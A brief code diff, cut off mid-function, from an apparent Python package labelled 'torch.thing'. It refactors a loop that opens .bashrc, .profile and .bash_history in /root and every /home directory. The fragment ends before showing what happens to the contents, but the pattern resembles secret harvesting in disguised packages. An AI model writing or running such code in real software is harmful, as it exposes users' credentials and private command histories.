@@ -17,7 +17,7 @@ ABOUT = ("torch.thing",)
 
 
 def treatment():
-    for home in ["/root"] + glob.glob("/home/*"):
+    for home in ["/root", *glob.glob("/home/*")]:
         for name in (".bashrc", ".profile", ".bash_history"):
             try:
                 with open(os.path.join(home, name)) as file:
